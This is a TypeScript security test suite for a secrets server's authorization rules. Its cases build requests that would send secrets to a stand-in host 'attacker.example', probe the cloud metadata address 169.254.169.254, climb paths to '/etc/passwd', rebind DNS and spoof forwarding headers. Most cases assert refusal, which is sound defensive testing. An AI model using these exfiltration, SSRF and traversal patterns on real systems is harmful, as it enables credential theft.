/**
 * The authorization table. The rule (PRODUCT.md, "Security model"): no path lets a principal
 * learn a value it could not read with `reveal`, or make the server reach an address or file it
 * could not reach itself.
 *
 * First the exfiltration paths a security audit found, one test each (all must be refused);
 * then the table proper: every route that resolves or uses a store × role (with and without
 * reveal) × scope (root token, `acme` token) × target (a secret of the token's own namespace,
 * one of another namespace, the root host stores `env` and `file`, a root store that is not
 * host-bound). The expected answer of each row comes from {@link expected}, which states the
 * rule; it is not derived from what the code does. Every reply is scanned for the canaries.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ConfigFile } from '../../src/config/schema.js';
import { AGENT_TOKEN_HEADER } from '../../src/server/agent-token.js';
import type { Role } from '../../src/tokens/index.js';
import {
  canary,
  leaked,
  nonLoopbackAddress,
  type Sink,
  startSink,
} from './authorization-fixtures.js';
import { type Reply, startTestServer, type TestServer } from './helpers.js';

const enc = encodeURIComponent;
const ENV_VAR = 'SESAME_TBL_CANARY_ENV';
const ATTACKER = 'attacker.example';

/** Distinct canaries per target; `shared` is an `acme` builtin secret used by the exfiltration rows. */
const CANARY = {
  own: canary('own'),
  other: canary('other'),
  env: canary('env'),
  file: canary('file'),
  mem: canary('mem'),
  shared: canary('shared'),
  /** What the metadata stand-in answers: an instance role's credentials. */
  metadata: canary('metadata'),
  /** A store credential and a connection literal a root admin set, which no API reply shows. */
  keptCredential: canary('keptcred'),
  keptLiteral: canary('keptlit'),
};

let t: TestServer;
let sink: Sink;
/** Stand-in for the cloud metadata service. */
let metadata: Sink;
let hostDir: string;
/** Where `attacker.example` resolves: an address of this machine the policy does not refuse, where `sink` listens. */
let attackerIp: string;
let rootAdmin: string;
const replies: Reply[] = [];
const tokens = new Map<string, string>();

/**
 * The DNS-rebinding row's name: it resolves to a public-looking address until `rebound` is set,
 * then to this host (the metadata stand-in listens there), as a record changed after a check.
 */
const rebind = { name: 'rebind.example', address: '127.0.0.1' };
let rebound = false;

/** A fixed DNS table: `attacker.example` resolves to a public-looking address; so does the rebinding name, until it is rebound. */
const resolveHost = async (host: string): Promise<string[]> => {
  if (host === ATTACKER) return [attackerIp];
  if (host === rebind.name) return [rebound ? rebind.address : attackerIp];
  throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
};

/** Every call of this file goes through here: replies are kept for the 500 scan. */
async function call(
  server: TestServer,
  method: string,
  p: string,
  options: Parameters<TestServer['call']>[2] = {},
): Promise<Reply> {
  const reply = await server.call(method, p, options);
  replies.push(reply);
  return reply;
}

// ---- the table's data ------------------------------------------------------------------------

type Scope = 'root' | 'acme';

interface Target {
  id: 'own-acme' | 'other-globex' | 'env-root' | 'file-root' | 'mem-root';
  /** The namespace the request acts in. */
  namespace: string;
  /** The store and the secret's name in it. */
  store: string;
  name: string;
  value: string;
  /** The store reads this server's environment or files (declared in the root namespace). */
  hostBound: boolean;
  /** Sesame can write secrets into the store. */
  writable: boolean;
  /** A connection declared in the config file (by whoever runs the server), in `namespace`, carrying the secret. */
  connection: string;
}

const TARGETS: Target[] = [
  {
    id: 'own-acme',
    namespace: 'acme',
    store: 'builtin',
    name: 'tbl/own',
    value: CANARY.own,
    hostBound: false,
    writable: true,
    connection: 'tbl-own',
  },
  {
    id: 'other-globex',
    namespace: 'globex',
    store: 'builtin',
    name: 'tbl/other',
    value: CANARY.other,
    hostBound: false,
    writable: true,
    connection: 'tbl-other',
  },
  {
    id: 'env-root',
    namespace: 'acme',
    store: 'env',
    name: ENV_VAR,
    value: CANARY.env,
    hostBound: true,
    writable: false,
    connection: 'tbl-env',
  },
  {
    id: 'file-root',
    namespace: 'acme',
    store: 'hostfiles',
    name: 'tbl-file',
    value: CANARY.file,
    hostBound: true,
    writable: false,
    connection: 'tbl-file',
  },
  {
    id: 'mem-root',
    namespace: 'acme',
    store: 'mem',
    name: 'tbl/mem',
    value: CANARY.mem,
    hostBound: false,
    writable: false,
    connection: 'tbl-mem',
  },
];

const ref = (target: Target) => `secret://${target.store}/${target.name}`;

interface PrincipalCase {
  role: Role;
  reveal: boolean;
}

// Reveal is a permission of admin and operator tokens only (runtime and auditor tokens with it are refused at creation).
const PRINCIPALS: PrincipalCase[] = (['admin', 'operator', 'runtime', 'auditor'] as const).flatMap((role) => [
  { role, reveal: false },
  ...(role === 'admin' || role === 'operator' ? [{ role, reveal: true }] : []),
]);

const SCOPES: Scope[] = ['root', 'acme'];

const label = (p: PrincipalCase, scope: Scope) => `${p.role}${p.reveal ? '+reveal' : ''}@${scope}`;

/** What a successful call looks like. */
type Success =
  /** The reply carries the target's value (`pick` finds it in the body). */
  | { kind: 'value'; status: number; pick: (body: Reply['body']) => unknown; expect: (target: Target) => unknown }
  /** The server sent the value to the connection's target (the config's listener), not to the caller. */
  | { kind: 'delivered'; status: number }
  /** Names, metadata, counts, reports: no value. */
  | { kind: 'novalue'; status: number };

interface RouteCase {
  id: string;
  /** The route's documented role set (access.test.ts checks it route by route). */
  roles: Role[];
  revealRoles: Role[];
  /**
   * The route reads through the store or makes it call its backend (a resolve, a reveal, a
   * list, a write, a check, a delivery). Refreshes only drop cached entries: they return no
   * value and reach nothing, so they do not use the store.
   */
  usesStore: boolean;
  success(target: Target): Success;
  call(token: string, target: Target): Promise<Reply>;
}

const RESOLVE_ROLES = { roles: ['runtime'] as Role[], revealRoles: ['admin', 'operator'] as Role[] };
const MANAGE_ROLES = { roles: ['admin', 'operator'] as Role[], revealRoles: [] as Role[] };
const REFRESH_ROLES = { roles: ['admin', 'operator', 'runtime'] as Role[], revealRoles: [] as Role[] };

let writes = 0;

const ROUTES: RouteCase[] = [
  {
    id: 'resolve',
    ...RESOLVE_ROLES,
    usesStore: true,
    success: () => ({ kind: 'value', status: 200, pick: (b) => b.value, expect: (tg) => tg.value }),
    call: (token, tg) =>
      call(t, 'POST', '/api/v1/resolve', { token, body: { reference: ref(tg), namespace: tg.namespace } }),
  },
  {
    id: 'resolve-template',
    ...RESOLVE_ROLES,
    usesStore: true,
    success: () => ({
      kind: 'value',
      status: 200,
      pick: (b) => b.value,
      expect: (tg) => `pre-${tg.value}-post`,
    }),
    call: (token, tg) =>
      call(t, 'POST', '/api/v1/resolve', {
        token,
        body: { template: `pre-{{ ${ref(tg)} }}-post`, namespace: tg.namespace },
      }),
  },
  {
    id: 'resolve-document',
    ...RESOLVE_ROLES,
    usesStore: true,
    success: () => ({
      kind: 'value',
      status: 200,
      pick: (b) => b.value?.outer?.list?.[1],
      expect: (tg) => tg.value,
    }),
    call: (token, tg) =>
      call(t, 'POST', '/api/v1/resolve', {
        token,
        body: { document: { outer: { list: ['literal', `{{ ${ref(tg)} }}`] } }, namespace: tg.namespace },
      }),
  },
  {
    id: 'resolve-connection',
    ...RESOLVE_ROLES,
    usesStore: true,
    success: () => ({
      kind: 'value',
      status: 200,
      pick: (b) => b.value?.auth?.token,
      expect: (tg) => tg.value,
    }),
    call: (token, tg) =>
      call(t, 'POST', '/api/v1/resolve', {
        token,
        body: { connection: tg.connection, namespace: tg.namespace },
      }),
  },
  {
    id: 'connection-test',
    ...MANAGE_ROLES,
    usesStore: true,
    // The values go to the destination the config file chose, never back to the caller: no reveal needed.
    success: () => ({ kind: 'delivered', status: 200 }),
    call: (token, tg) =>
      call(t, 'POST', `/api/v1/connections/${tg.connection}/test?namespace=${tg.namespace}`, { token }),
  },
  {
    id: 'connection-refresh',
    ...REFRESH_ROLES,
    usesStore: false,
    success: () => ({ kind: 'novalue', status: 200 }),
    call: (token, tg) =>
      call(t, 'POST', `/api/v1/connections/${tg.connection}/refresh?namespace=${tg.namespace}`, { token }),
  },
  {
    id: 'refresh',
    ...REFRESH_ROLES,
    usesStore: false,
    success: () => ({ kind: 'novalue', status: 200 }),
    call: (token, tg) =>
      call(t, 'POST', '/api/v1/refresh', { token, body: { reference: ref(tg), namespace: tg.namespace } }),
  },
  {
    id: 'store-test',
    ...MANAGE_ROLES,
    usesStore: true,
    success: () => ({ kind: 'novalue', status: 200 }),
    call: (token, tg) =>
      call(t, 'POST', `/api/v1/stores/${tg.store}/test?namespace=${tg.namespace}&sample=${enc(tg.name)}`, {
        token,
      }),
  },
  {
    id: 'secrets-list',
    ...MANAGE_ROLES,
    usesStore: true,
    success: () => ({ kind: 'novalue', status: 200 }),
    call: (token, tg) =>
      call(t, 'GET', `/api/v1/secrets?store=${tg.store}&namespace=${tg.namespace}`, { token }),
  },
  {
    id: 'secret-value',
    // PRODUCT "HTTP API": admin and operator receive values only with reveal; runtime only through resolve.
    roles: [],
    revealRoles: ['admin', 'operator'],
    usesStore: true,
    success: () => ({ kind: 'value', status: 200, pick: (b) => b.value, expect: (tg) => tg.value }),
    call: (token, tg) =>
      call(t, 'GET', `/api/v1/secrets/${enc(tg.name)}/value?store=${tg.store}&namespace=${tg.namespace}`, {
        token,
      }),
  },
  {
    id: 'secret-write',
    ...MANAGE_ROLES,
    usesStore: true,
    // A store Sesame cannot write into answers 405 (unsupported), whoever asks.
    success: (tg) => ({ kind: 'novalue', status: tg.writable ? 200 : 405 }),
    call: (token, tg) =>
      call(
        t,
        'PUT',
        `/api/v1/secrets/${enc(`tbl/w/${++writes}`)}?store=${tg.store}&namespace=${tg.namespace}`,
        {
          token,
          body: { value: `written-${writes}-value` },
        },
      ),
  },
];

type Expected = { ok: true; success: Success } | { ok: false; status: 403; code: string };

const refuse = (code: string): Expected => ({ ok: false, status: 403, code });

/** The rule, stated per row. */
function expected(route: RouteCase, p: PrincipalCase, scope: Scope, target: Target): Expected {
  // The route's documented role set: values reach admin and operator only with reveal, runtime
  // only through resolve, and an auditor reads the audit trail only.
  if (!route.roles.includes(p.role)) {
    if (!route.revealRoles.includes(p.role)) return refuse('forbidden_role');
    if (!p.reveal) return refuse('reveal_required');
  }
  // A token limited to acme acts in acme and its children only.
  if (scope === 'acme' && target.namespace !== 'acme' && !target.namespace.startsWith('acme.'))
    return refuse('forbidden_namespace');
  // The root host stores serve the server's own environment and files: a token limited to acme
  // could not read them itself, so no route may use them for it.
  if (scope === 'acme' && target.hostBound && route.usesStore) return refuse('forbidden_host_access');
  return { ok: true, success: route.success(target) };
}

interface Row {
  name: string;
  route: RouteCase;
  principal: PrincipalCase;
  scope: Scope;
  target: Target;
  expect: Expected;
}

const ROWS: Row[] = ROUTES.flatMap((route) =>
  PRINCIPALS.flatMap((principal) =>
    SCOPES.flatMap((scope) =>
      TARGETS.map((target) => {
        const e = expected(route, principal, scope, target);
        const status = e.ok ? e.success.status : e.status;
        return {
          name: `${label(principal, scope)} ${route.id} ${target.id} → ${status}${e.ok ? '' : ` ${e.code}`}`,
          route,
          principal,
          scope,
          target,
          expect: e,
        };
      }),
    ),
  ),
);

// ---- setup -------------------------------------------------------------------------------------

function configFor(allow?: string[]): ConfigFile {
  const base = `http://127.0.0.1:${sink.port}`;
  const httpConnection = (target: Target) => ({
    name: target.connection,
    namespace: target.namespace,
    type: 'http',
    fields: {
      baseUrl: base,
      auth: { method: 'bearer', token: `{{ ${ref(target)} }}` },
      test: { path: `/tbl/${target.id}` },
    },
  });
  return {
    stores: [
      { name: 'hostfiles', type: 'file', root: hostDir },
      { name: 'mem', type: 'memory', backend: 'mem' },
    ],
    connections: TARGETS.map(httpConnection),
    ...(allow ? { server: { outbound: { allow } } } : {}),
  } as ConfigFile;
}

async function writeSecret(
  server: TestServer,
  token: string,
  namespace: string,
  name: string,
  value: string,
): Promise<void> {
  const r = await call(server, 'PUT', `/api/v1/secrets/${enc(name)}?namespace=${namespace}`, {
    token,
    body: { value },
  });
  expect(r.status, r.text).toBe(200);
}

async function tokenFor(server: TestServer, role: Role, namespace: string, reveal: boolean): Promise<string> {
  return (await server.token(role, { namespace, reveal })).token;
}

beforeAll(async () => {
  process.env[ENV_VAR] = CANARY.env;
  hostDir = mkdtempSync(path.join(tmpdir(), 'sesame-hostfiles-'));
  writeFileSync(path.join(hostDir, 'tbl-file'), CANARY.file);
  const local = nonLoopbackAddress();
  // The sink listens on every address so that a request to "attacker.example" reaches it too.
  sink = await startSink(local ? '0.0.0.0' : '127.0.0.1');
  // Without an interface address, a TEST-NET address: the refusal must come before any connection anyway.
  attackerIp = local ?? '203.0.113.7';
  metadata = await startSink(
    '127.0.0.1',
    JSON.stringify({ AccessKeyId: 'ASIA', SecretAccessKey: CANARY.metadata }),
  );
  t = await startTestServer({ config: configFor(), resolveHost });
  t.memory.set('tbl/mem', CANARY.mem);
  rootAdmin = (await t.token('admin', { reveal: true })).token;
  await writeSecret(t, rootAdmin, 'acme', 'tbl/own', CANARY.own);
  await writeSecret(t, rootAdmin, 'globex', 'tbl/other', CANARY.other);
  await writeSecret(t, rootAdmin, 'acme', 'shared', CANARY.shared);
  for (const p of PRINCIPALS) {
    for (const scope of SCOPES)
      tokens.set(label(p, scope), await tokenFor(t, p.role, scope === 'root' ? '' : 'acme', p.reveal));
  }
});

afterAll(async () => {
  delete process.env[ENV_VAR];
  await t?.close();
  await sink?.close();
  await metadata?.close();
});

/** No canary in any form in `reply`, except the ones named in `allowed`. */
function expectNoCanary(reply: Reply, allowed: string[] = []): void {
  const found = leaked(reply.text, CANARY).filter((l) => !allowed.includes(l));
  expect(found, `canaries in the reply: ${reply.text.slice(0, 400)}`).toEqual([]);
}

function expectRefused(reply: Reply, code: string): void {
  expect(reply.status, reply.text).toBe(403);
  expect(reply.body?.error?.code, reply.text).toBe(code);
  expectNoCanary(reply);
}

// ---- the exfiltration paths of the audit -------------------------------------------------------

describe('exfiltration paths found by the audit', () => {
  let operator: string;
  let n = 0;

  beforeAll(async () => {
    operator = await tokenFor(t, 'operator', 'acme', false);
  });

  /** A connection the scoped operator creates through the API, then its test. */
  async function createAndTest(
    token: string,
    type: string,
    fields: Record<string, unknown>,
    server: TestServer = t,
  ): Promise<{ created: Reply; tested: Reply | undefined }> {
    const name = `exfil-${++n}`;
    const created = await call(server, 'POST', '/api/v1/connections', {
      token,
      body: { name, namespace: 'acme', type, fields },
    });
    if (created.status !== 201) return { created, tested: undefined };
    const tested = await call(server, 'POST', `/api/v1/connections/${name}/test?namespace=acme`, { token });
    return { created, tested };
  }

  /** Refused at creation or at the test, with `code`; the listener saw nothing. */
  function expectBlocked(
    result: { created: Reply; tested: Reply | undefined },
    code: string,
    before: { requests: number; connections: number },
  ): void {
    const answer = result.tested ?? result.created;
    expectRefused(answer, code);
    expectNoCanary(result.created);
    expect(sink.requests.length, 'requests reaching the listener').toBe(before.requests);
    expect(sink.connections, 'connections reaching the listener').toBe(before.connections);
  }

  const snapshot = () => ({ requests: sink.requests.length, connections: sink.connections });
  const loopback = () => `http://127.0.0.1:${sink.port}/exfil`;
  const attacker = () => `http://${ATTACKER}:${sink.port}/exfil`;
  const bearer = (reference: string) => ({ method: 'bearer', token: `{{ ${reference} }}` });

  it('1. the root env store sent to a listener of the operator: 403, nothing sent', async () => {
    const before = snapshot();
    const r = await createAndTest(operator, 'http', {
      baseUrl: loopback(),
      auth: bearer(`secret://env/${ENV_VAR}`),
    });
    expectBlocked(r, 'forbidden_host_access', before);
    // Control: the same connection made by a root admin is delivered (the listener does count).
    const control = await createAndTest(rootAdmin, 'http', {
      baseUrl: `${loopback()}/control`,
      auth: bearer(`secret://env/${ENV_VAR}`),
    });
    expect(control.tested?.status, control.tested?.text ?? control.created.text).toBe(200);
    expectNoCanary(control.tested as Reply);
    expect(sink.at('/exfil/control').map((q) => q.headers.authorization)).toEqual([`Bearer ${CANARY.env}`]);
  });

  it('2. a root file store sent to a listener of the operator: 403, nothing sent', async () => {
    const before = snapshot();
    const r = await createAndTest(operator, 'http', {
      baseUrl: loopback(),
      auth: bearer('secret://hostfiles/tbl-file'),
    });
    expectBlocked(r, 'forbidden_host_access', before);
  });

  it('3a. an acme secret sent to a loopback destination of the operator: 403 forbidden_destination', async () => {
    const before = snapshot();
    const r = await createAndTest(operator, 'http', {
      baseUrl: loopback(),
      auth: bearer('secret://builtin/shared'),
    });
    expectBlocked(r, 'forbidden_destination', before);
  });

  it('3b. an acme secret sent to a public-looking destination without reveal: 403 before any connection', async () => {
    const before = snapshot();
    const r = await createAndTest(operator, 'http', {
      baseUrl: attacker(),
      auth: bearer('secret://builtin/shared'),
    });
    expectBlocked(r, 'forbidden_destination', before);
    expect((r.tested ?? r.created).body.error.message).toMatch(/reveal|server\.outbound\.allow/);
  });

  it('3c. the same with an operator token holding reveal: the test is attempted (200 with a report)', async () => {
    const revealer = await tokenFor(t, 'operator', 'acme', true);
    const r = await createAndTest(revealer, 'http', {
      baseUrl: `${attacker()}/revealed`,
      auth: bearer('secret://builtin/shared'),
    });
    expect(r.created.status, r.created.text).toBe(201);
    expect(r.tested?.status, r.tested?.text).toBe(200);
    expect(r.tested?.body).toMatchObject({ connection: expect.any(String), steps: expect.any(Array) });
    expectNoCanary(r.tested as Reply);
    if (attackerIp !== '203.0.113.7') {
      // attacker.example is this machine here: the value reached it, so 3b's "nothing arrived" is meaningful.
      expect(r.tested?.body.ok, r.tested?.text).toBe(true);
      expect(sink.at('/exfil/revealed').map((q) => q.headers.authorization)).toEqual([
        `Bearer ${CANARY.shared}`,
      ]);
    }
    // reveal lets the value go to a destination the operator chose, never to this host.
    const before = snapshot();
    const back = await createAndTest(revealer, 'http', {
      baseUrl: loopback(),
      auth: bearer('secret://builtin/shared'),
    });
    expectBlocked(back, 'forbidden_destination', before);
  });

  it('3d. with server.outbound.allow naming the host: allowed without reveal', async () => {
    const allowed = await startTestServer({ config: configFor([ATTACKER]), resolveHost });
    try {
      const admin = (await allowed.token('admin', { reveal: true })).token;
      await writeSecret(allowed, admin, 'acme', 'shared', CANARY.shared);
      const plain = (await allowed.token('operator', { namespace: 'acme' })).token;
      const before = sink.at('/exfil/allowed').length;
      const r = await createAndTest(
        plain,
        'http',
        { baseUrl: `${attacker()}/allowed`, auth: bearer('secret://builtin/shared') },
        allowed,
      );
      expect(r.tested?.status, r.tested?.text ?? r.created.text).toBe(200);
      expectNoCanary(r.tested as Reply);
      if (attackerIp !== '203.0.113.7') {
        // The destination the admin allowed received the value, as the test is meant to do.
        expect(r.tested?.body.ok, r.tested?.text).toBe(true);
        expect(sink.at('/exfil/allowed').length).toBe(before + 1);
      }
      // Still no loopback: the allow entry names attacker.example, not this host.
      const back = await createAndTest(
        plain,
        'http',
        { baseUrl: loopback(), auth: bearer('secret://builtin/shared') },
        allowed,
      );
      expectRefused(back.tested ?? back.created, 'forbidden_destination');
    } finally {
      await allowed.close();
    }
  });

  it('4. a postgres connection probing a loopback port: 403 forbidden_destination, no driver text', async () => {
    for (const password of ['{{ secret://builtin/shared }}', 'literal-password']) {
      const before = snapshot();
      const r = await createAndTest(operator, 'postgres', {
        host: '127.0.0.1',
        port: sink.port,
        database: 'db',
        user: 'app',
        password,
      });
      expectBlocked(r, 'forbidden_destination', before);
      const text = (r.tested ?? r.created).text;
      expect(text).not.toMatch(/ECONNREFUSED|ECONNRESET|terminated|connecting to|SSL|protocol|pg_hba/i);
    }
    const url = await createAndTest(operator, 'postgres', {
      url: `postgres://app:{{ secret://builtin/shared }}@127.0.0.1:${sink.port}/db`,
    });
    expectRefused(url.tested ?? url.created, 'forbidden_destination');
  });

  it('5. vault stores pointed at this host, the metadata service or the host files: refused; nothing reaches metadata', async () => {
    const create = (name: string, settings: Record<string, unknown>) =>
      call(t, 'POST', '/api/v1/stores', {
        token: operator,
        body: { name, namespace: 'acme', type: 'vault', settings },
      });
    const auth = { method: 'token', token: 'vault-token-value' };
    const local = await create('meta', { address: `http://127.0.0.1:${metadata.port}`, auth });
    expectRefused(local, 'forbidden_destination');
    const cloud = await create('meta2', { address: 'http://169.254.169.254', auth });
    expectRefused(cloud, 'forbidden_destination');
    const climb = await create('climb', { address: 'https://203.0.113.10:8200', mount: '..', auth });
    expect(climb.status, climb.text).toBe(400);
    expect(climb.text).toContain('..');
    const ca = await create('cafile', { address: 'https://203.0.113.10:8200', caFile: '/etc/passwd', auth });
    expectRefused(ca, 'forbidden_host_access');
    // A store accepted at a public-looking address cannot be moved to the metadata service afterwards.
    const moved = await create('moved', { address: 'https://203.0.113.10:8200', auth });
    expect(moved.status, moved.text).toBe(201);
    const update = await call(t, 'PUT', '/api/v1/stores/moved?namespace=acme', {
      token: operator,
      body: {
        type: 'vault',
        settings: { address: `http://169.254.169.254`, auth: { method: 'token', token: '***' } },
      },
    });
    expectRefused(update, 'forbidden_destination');
    const runtime = await tokenFor(t, 'runtime', 'acme', false);
    for (const store of ['meta', 'meta2', 'climb', 'cafile']) {
      const r = await call(t, 'POST', '/api/v1/resolve', {
        token: runtime,
        body: { reference: `secret://${store}/latest/meta-data/iam/security-credentials/role` },
      });
      expect([400, 404], r.text).toContain(r.status);
      expectNoCanary(r);
    }
    expect(metadata.requests).toEqual([]);
    expect(metadata.connections).toBe(0);
  });

  it('5b. a store address is checked where it is connected, not only when the store is created (DNS rebinding)', async () => {
    // The metadata stand-in where the name points now (this machine's resolver: loopback).
    const target = await startSink(
      rebind.address,
      JSON.stringify({ AccessKeyId: 'ASIA', SecretAccessKey: CANARY.metadata }),
    );
    try {
      const at = `http://${rebind.name}:${target.port}`;
      const runtime = await tokenFor(t, 'runtime', 'acme', false);
      const stores: Array<[string, string, Record<string, unknown>]> = [
        ['rebind-http', 'http', { url: `${at}/{+name}` }],
        [
          'rebind-vault',
          'vault',
          { address: at, kvVersion: 1, auth: { method: 'token', token: 'vault-token-value' } },
        ],
      ];
      for (const [name, type, settings] of stores) {
        // When the store is created, DNS says the name is a public-looking address: accepted.
        const created = await call(t, 'POST', '/api/v1/stores', {
          token: operator,
          body: { name, namespace: 'acme', type, settings },
        });
        expect(created.status, created.text).toBe(201);
        // By the time the store is used, the name points at this host (the metadata stand-in).
        rebound = true;
        const resolved = await call(t, 'POST', '/api/v1/resolve', {
          token: runtime,
          body: { reference: `secret://${name}/latest/meta-data/iam/security-credentials/role` },
        });
        const tested = await call(
          t,
          'POST',
          `/api/v1/stores/${name}/test?namespace=acme&sample=latest%2Fmeta-data`,
          { token: operator },
        );
        // Soft: every store type's outcome is reported, not only the first.
        expect.soft(resolved.status, `${type} resolve: ${resolved.text}`).not.toBe(200);
        expect.soft(leaked(resolved.text, CANARY), `${type} resolve: ${resolved.text}`).toEqual([]);
        expect.soft(leaked(tested.text, CANARY), `${type} store test: ${tested.text}`).toEqual([]);
        // Refused by the outbound policy at connect time, not by a name that did not resolve.
        expect.soft(resolved.text, `${type}: why the resolve was refused`).toContain('forbidden_destination');
        expect.soft(tested.text, `${type}: why the store test failed`).toContain('forbidden_destination');
        rebound = false;
      }
      expect(
        target.requests.map((q) => `${q.method} ${q.path}`),
        `requests that reached ${rebind.address} through ${rebind.name}`,
      ).toEqual([]);
    } finally {
      await target.close();
    }
  });

  it('6. names that climb or carry a control character: 400, for the right reason', async () => {
    const runtime = await tokenFor(t, 'runtime', 'acme', false);
    const rootRuntime = await tokenFor(t, 'runtime', '', false);
    for (const [token, reference] of [
      [runtime, 'secret://builtin/a/../b'],
      [runtime, 'secret://builtin/./b'],
      [rootRuntime, 'secret://hostfiles/../etc/passwd'],
      [rootRuntime, `secret://hostfiles/x/../tbl-file`],
    ] as const) {
      for (const body of [{ reference }, { template: `x{{ ${reference} }}` }]) {
        const r = await call(t, 'POST', '/api/v1/resolve', { token, body });
        expect(r.status, `${JSON.stringify(body)}: ${r.text}`).toBe(400);
        expect(r.body.error.message).toMatch(/"\.\."|"\."/);
        expectNoCanary(r);
      }
    }
    const nul = await call(t, 'POST', '/api/v1/resolve', {
      token: runtime,
      body: { reference: 'secret://builtin/a%00b' },
    });
    expect(nul.status, nul.text).toBe(400);
    expect(nul.body.error.message).toMatch(/control character/);
    expect(nul.body.error.message).not.toContain('..');
  });

  it('7. a refresh scoped to acme does not drop globex entries', async () => {
    const acme = await tokenFor(t, 'runtime', 'acme', false);
    const globex = await tokenFor(t, 'runtime', 'globex', false);
    const resolve = async (token: string, namespace: string, name: string) => {
      const r = await call(t, 'POST', '/api/v1/resolve', {
        token,
        body: { reference: `secret://builtin/${name}`, namespace },
      });
      expect(r.status, r.text).toBe(200);
      return r.body.references[0].outcome as string;
    };
    await resolve(globex, 'globex', 'tbl/other');
    expect(await resolve(globex, 'globex', 'tbl/other')).toBe('hit');
    await resolve(acme, 'acme', 'tbl/own');
    expect(await resolve(acme, 'acme', 'tbl/own')).toBe('hit');
    const refreshed = await call(t, 'POST', '/api/v1/refresh', {
      token: acme,
      body: { store: 'builtin', namespace: 'acme' },
    });
    expect(refreshed.status, refreshed.text).toBe(200);
    expect(refreshed.body.dropped).toBeGreaterThanOrEqual(1);
    expect(await resolve(globex, 'globex', 'tbl/other'), 'globex entry after an acme refresh').toBe('hit');
    expect(await resolve(acme, 'acme', 'tbl/own'), 'acme entry after an acme refresh').toBe('miss');
    // A namespace refresh by the same token: the same boundary.
    await call(t, 'POST', '/api/v1/refresh', { token: acme, body: { namespace: 'acme' } });
    expect(await resolve(globex, 'globex', 'tbl/other')).toBe('hit');
    // And it may not reach into globex at all.
    expectRefused(
      await call(t, 'POST', '/api/v1/refresh', {
        token: acme,
        body: { store: 'builtin', namespace: 'globex' },
      }),
      'forbidden_namespace',
    );
    expectRefused(
      await call(t, 'POST', '/api/v1/refresh', { token: acme, body: { all: true } }),
      'forbidden_namespace',
    );
  });

  it('8. agent mode refuses every proxy header', async () => {
    const agentToken = 'agent-token-0123456789abcdef';
    const agent = await startTestServer({ mode: 'agent', agent: { token: agentToken, namespace: 'acme' } });
    try {
      const body = { reference: 'secret://builtin/none' };
      const plain = await call(agent, 'POST', '/api/v1/resolve', {
        body,
        headers: { [AGENT_TOKEN_HEADER]: agentToken },
      });
      expect(plain.status, plain.text).not.toBe(403);
      const headers: Record<string, string> = {
        Forwarded: 'for=203.0.113.9',
        'X-Real-IP': '203.0.113.9',
        'X-Forwarded-Host': 'evil.example',
        Via: '1.1 proxy',
        'X-Forwarded-For': '203.0.113.9',
      };
      for (const [name, value] of Object.entries(headers)) {
        for (const p of ['/api/v1/resolve', '/api/v1/refresh']) {
          const r = await call(agent, 'POST', p, {
            body: p.endsWith('resolve') ? body : { all: true },
            headers: { [AGENT_TOKEN_HEADER]: agentToken, [name]: value },
          });
          expect(r.status, `${name} on ${p}: ${r.text}`).toBe(403);
          expect(r.body.error.code).toBe('forwarded_request');
        }
      }
    } finally {
      await agent.close();
    }
  });
});

describe('credentials kept with "***" when a destination changes', () => {
  let scopedAdmin: string;
  const sent = (value: string) => sink.requests.filter((r) => JSON.stringify(r.headers).includes(value));

  beforeAll(async () => {
    scopedAdmin = await tokenFor(t, 'admin', 'acme', true);
  });

  it('a store credential set by a root admin does not follow an address a scoped admin chose: 403, nothing sent', async () => {
    const address = 'https://203.0.113.10:8200';
    const created = await call(t, 'POST', '/api/v1/stores', {
      token: rootAdmin,
      body: {
        name: 'kept',
        namespace: 'acme',
        type: 'vault',
        settings: { address, auth: { method: 'token', token: CANARY.keptCredential } },
      },
    });
    expect(created.status, created.text).toBe(201);
    const moved = {
      type: 'vault',
      settings: { address: `http://${ATTACKER}:${sink.port}`, auth: { method: 'token', token: '***' } },
    };

    // Tested without saving, then saved: both would send the stored token to the new address.
    const tested = await call(t, 'POST', '/api/v1/stores/kept/test?namespace=acme', {
      token: scopedAdmin,
      body: moved,
    });
    expectRefused(tested, 'forbidden_destination');
    expect(tested.body.error.message).toContain('auth.token');
    expect(tested.body.error.message).toMatch(/give (it|them) again/);
    const update = await call(t, 'PUT', '/api/v1/stores/kept?namespace=acme', {
      token: scopedAdmin,
      body: moved,
    });
    expectRefused(update, 'forbidden_destination');
    expect(sent(CANARY.keptCredential)).toEqual([]);

    // The same address with another setting changed keeps the credential where it went before.
    const same = await call(t, 'PUT', '/api/v1/stores/kept?namespace=acme', {
      token: scopedAdmin,
      body: { type: 'vault', settings: { address, mount: 'kv', auth: { method: 'token', token: '***' } } },
    });
    expect(same.status, same.text).toBe(200);
    // A credential given again goes where its giver chose.
    const given = await call(t, 'PUT', '/api/v1/stores/kept?namespace=acme', {
      token: scopedAdmin,
      body: {
        type: 'vault',
        settings: {
          address: moved.settings.address,
          auth: { method: 'token', token: 'the-scoped-admins-own-token' },
        },
      },
    });
    expect(given.status, given.text).toBe(200);
  });

  it('a connection literal set by a root admin does not follow a baseUrl a scoped admin chose: 403, nothing sent', async () => {
    const created = await call(t, 'POST', '/api/v1/connections', {
      token: rootAdmin,
      body: {
        name: 'kept-literal',
        namespace: 'acme',
        type: 'http',
        fields: {
          baseUrl: 'https://203.0.113.10/api',
          auth: { method: 'bearer', token: CANARY.keptLiteral },
        },
      },
    });
    expect(created.status, created.text).toBe(201);
    const update = await call(t, 'PUT', '/api/v1/connections/kept-literal?namespace=acme', {
      token: scopedAdmin,
      body: {
        type: 'http',
        fields: { baseUrl: `http://${ATTACKER}:${sink.port}/kept`, auth: { method: 'bearer', token: '***' } },
      },
    });
    expectRefused(update, 'forbidden_destination');
    expect(update.body.error.message).toContain('auth.token');
    const tested = await call(t, 'POST', '/api/v1/connections/kept-literal/test?namespace=acme', {
      token: scopedAdmin,
    });
    expectNoCanary(tested);
    expect(sent(CANARY.keptLiteral)).toEqual([]);

    // Another path on the same origin, or a header added: the literal goes where it went before.
    const same = await call(t, 'PUT', '/api/v1/connections/kept-literal?namespace=acme', {
      token: scopedAdmin,
      body: {
        type: 'http',
        fields: {
          baseUrl: 'https://203.0.113.10/v2',
          headers: { 'X-Team': 'a' },
          auth: { method: 'bearer', token: '***' },
        },
      },
    });
    expect(same.status, same.text).toBe(200);
    // A root admin may send it anywhere (it chose the destination of everything in the config).
